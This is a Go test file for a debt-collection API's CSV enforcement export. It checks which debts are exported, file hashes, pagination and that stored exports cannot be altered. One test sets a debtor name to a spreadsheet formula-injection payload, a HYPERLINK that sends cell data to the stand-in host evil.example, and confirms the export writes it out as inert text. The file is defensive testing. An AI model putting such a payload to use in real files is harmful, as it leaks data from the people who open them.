package api

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"mime"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"incasso/db/dbgen"
	"incasso/domain/date"
	"incasso/domain/reminders"
	"incasso/services/debts"
	"incasso/workflows"
)

// readCSV parses an enforcement export: UTF-8, ';' separated.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(string(body)))
	r.Comma = ';'
	records, err := r.ReadAll()
	require.NoError(t, err, string(body))
	return records
}

func (e *testEnv) exportEnforcement(t *testing.T) (*http.Response, []byte) {
	t.Helper()
	return e.postJSON(t, "/v1/enforcement/exports", "", nil)
}

// handOver records the ladder's hand-over of an overdue debt, as its last step does.
func (e *testEnv) handOver(t *testing.T, iupd string) {
	t.Helper()
	ctx := context.Background()
	q := dbgen.New(e.pool)
	row := e.debtRow(t, iupd)
	_, err := debts.Advance(ctx, q, row.ID, workflows.StatusOverdue)
	require.NoError(t, err)
	require.NoError(t, q.InsertHandover(ctx, dbgen.InsertHandoverParams{DebtID: row.ID, AmountCents: row.AmountCents}))
}

// requireExportAnswer checks the answer to POST /v1/enforcement/exports: 201, the CSV, the
// export's link and the hash of the bytes; it returns the export's id.
func requireExportAnswer(t *testing.T, resp *http.Response, body []byte) int64 {
	t.Helper()
	require.Equal(t, http.StatusCreated, resp.StatusCode, string(body))
	require.Equal(t, "text/csv; charset=utf-8", resp.Header.Get("Content-Type"))
	id, err := strconv.ParseInt(strings.TrimPrefix(resp.Header.Get("Location"), "/v1/enforcement/exports/"), 10, 64)
	require.NoError(t, err, resp.Header.Get("Location"))
	sum := sha256.Sum256(body)
	require.Equal(t, hex.EncodeToString(sum[:]), resp.Header.Get("X-Content-SHA256"))
	disposition, params, err := mime.ParseMediaType(resp.Header.Get("Content-Disposition"))
	require.NoError(t, err)
	require.Equal(t, "attachment", disposition)
	require.Equal(t, "affidamenti-"+date.InRome(time.Now()).String()+"-"+strconv.FormatInt(id, 10)+".csv", params["filename"],
		"named after the day of the export in Rome and its id")
	return id
}

func TestEnforcementExport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()

	a := validRequest("ENF-A")
	b := validRequest("ENF-B")
	b.AmountCents, b.DueDate, b.ServiceCode = 99, "2027-01-15", "IMU"
	b.Debtor.FullName = "Rossi; Mario \"Bianchi\""
	da, db := e.mustCreateDebt(t, a), e.mustCreateDebt(t, b)
	e.mustCreateDebt(t, validRequest("ENF-C")) // not handed over
	e.handOver(t, "ENF-A")
	e.handOver(t, "ENF-B")
	today := date.InRome(time.Now()).Italian()

	resp, body := e.exportEnforcement(t)
	first := requireExportAnswer(t, resp, body)
	require.True(t, strings.HasSuffix(string(body), "\r\n"), "CRLF line endings")

	records := readCSV(t, body)
	require.Len(t, records, 3, "header and two hand-overs")
	require.Equal(t, reminders.EnforcementHeader, records[0])
	byIUPD := map[string][]string{}
	for _, r := range records[1:] {
		byIUPD[r[0]] = r
	}
	require.Equal(t, []string{"ENF-A", da.NoticeNumber, "RSSMRA85T10A562S", "Mario Rossi", "123,45", "31/12/2026", today, "TARI"}, byIUPD["ENF-A"])
	require.Equal(t, []string{"ENF-B", db.NoticeNumber, "RSSMRA85T10A562S", `Rossi; Mario "Bianchi"`, "0,99", "15/01/2027", today, "IMU"}, byIUPD["ENF-B"])

	var exported int
	require.NoError(t, e.pool.QueryRow(ctx, `SELECT count(*) FROM enforcement_handovers WHERE exported_at IS NOT NULL AND export_id = $1`, first).Scan(&exported))
	require.Equal(t, 2, exported)

	// Exported once: the next export has only the header.
	resp, body = e.exportEnforcement(t)
	require.Greater(t, requireExportAnswer(t, resp, body), first)
	require.Equal(t, [][]string{reminders.EnforcementHeader}, readCSV(t, body))

	// A later hand-over goes in the next file alone.
	e.handOver(t, "ENF-C")
	resp, body = e.exportEnforcement(t)
	requireExportAnswer(t, resp, body)
	records = readCSV(t, body)
	require.Len(t, records, 2)
	require.Equal(t, "ENF-C", records[1][0])

	resp, body = e.do(t, http.MethodPost, "/v1/enforcement/exports", nil, nil)
	requireProblem(t, resp, body, http.StatusUnauthorized)
}

// Only what is still owed when the file is made goes to the agent: a debt paid, cancelled or
// put in instalments after its hand-over was recorded stays out, and stays unexported.
func TestEnforcementExportOnlyOwed(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	q := dbgen.New(e.pool)
	for _, iupd := range []string{"OWED-1", "PAID-1", "CANC-1", "PLAN-1"} {
		e.mustCreateDebt(t, validRequest(iupd))
		e.handOver(t, iupd)
	}
	e.markPaid(t, "PAID-1")
	e.markCancelled(t, "CANC-1", "iscrizione duplicata")
	_, err := debts.Advance(ctx, q, e.debtRow(t, "PLAN-1").ID, workflows.StatusInstalments)
	require.NoError(t, err)

	resp, body := e.exportEnforcement(t)
	requireExportAnswer(t, resp, body)
	records := readCSV(t, body)
	require.Len(t, records, 2, string(body))
	require.Equal(t, "OWED-1", records[1][0])

	rows, err := e.pool.Query(ctx, `SELECT d.iupd FROM enforcement_handovers h JOIN debt_positions d ON d.id = h.debt_id
		WHERE h.exported_at IS NULL ORDER BY d.iupd`)
	require.NoError(t, err)
	var left []string
	for rows.Next() {
		var iupd string
		require.NoError(t, rows.Scan(&iupd))
		left = append(left, iupd)
	}
	require.NoError(t, rows.Err())
	require.Equal(t, []string{"CANC-1", "PAID-1", "PLAN-1"}, left)
}

// Each export is kept: listed with its hash, and its file served again byte for byte, so a
// lost answer loses nothing; the stored export cannot be altered.
func TestEnforcementExportKept(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	evil := validRequest("EVIL-1")
	evil.Debtor.FullName = `=HYPERLINK("http://evil.example/?d="&A2,"Rossi")`
	e.mustCreateDebt(t, evil)
	e.handOver(t, "EVIL-1")

	resp, body := e.exportEnforcement(t)
	id := requireExportAnswer(t, resp, body)
	records := readCSV(t, body)
	require.Equal(t, "'"+evil.Debtor.FullName, records[1][3], "a formula in a cell is written as text")
	resp, second := e.exportEnforcement(t)
	empty := requireExportAnswer(t, resp, second)

	resp, again := e.get(t, "/v1/enforcement/exports/"+strconv.FormatInt(id, 10))
	require.Equal(t, http.StatusOK, resp.StatusCode, string(again))
	require.Equal(t, body, again, "the same bytes")
	sum := sha256.Sum256(body)
	require.Equal(t, hex.EncodeToString(sum[:]), resp.Header.Get("X-Content-SHA256"))
	require.Equal(t, "text/csv; charset=utf-8", resp.Header.Get("Content-Type"))

	resp, list := e.get(t, "/v1/enforcement/exports")
	require.Equal(t, http.StatusOK, resp.StatusCode, string(list))
	var page EnforcementExports
	require.NoError(t, json.Unmarshal(list, &page))
	require.Len(t, page.Exports, 2)
	require.Equal(t, []int64{empty, id}, []int64{page.Exports[0].ID, page.Exports[1].ID}, "newest first")
	got := page.Exports[1]
	require.Equal(t, 1, got.Rows)
	require.Equal(t, "client:tributi", got.CreatedBy)
	require.Equal(t, hex.EncodeToString(sum[:]), got.SHA256)
	require.Equal(t, "/v1/enforcement/exports/"+strconv.FormatInt(id, 10), got.Links.File)
	require.Zero(t, page.Exports[0].Rows)
	require.Empty(t, page.Next)

	resp, list = e.get(t, "/v1/enforcement/exports?limit=1")
	require.Equal(t, http.StatusOK, resp.StatusCode, string(list))
	page = EnforcementExports{}
	require.NoError(t, json.Unmarshal(list, &page))
	require.Equal(t, "/v1/enforcement/exports?limit=1&before="+strconv.FormatInt(empty, 10), page.Next)

	for _, path := range []string{"/v1/enforcement/exports/999999", "/v1/enforcement/exports/0", "/v1/enforcement/exports/x", "/v1/enforcement/exports/+1"} {
		resp, body := e.get(t, path)
		requireProblem(t, resp, body, http.StatusNotFound)
	}
	resp, body = e.get(t, "/v1/enforcement/exports?limit=0")
	requireProblem(t, resp, body, http.StatusUnprocessableEntity)

	_, err := e.pool.Exec(ctx, `UPDATE enforcement_exports SET content = 'altered' WHERE id = $1`, id)
	require.ErrorContains(t, err, "cannot be changed or deleted")
	_, err = e.pool.Exec(ctx, `DELETE FROM enforcement_exports WHERE id = $1`, id)
	require.ErrorContains(t, err, "cannot be changed or deleted")
}
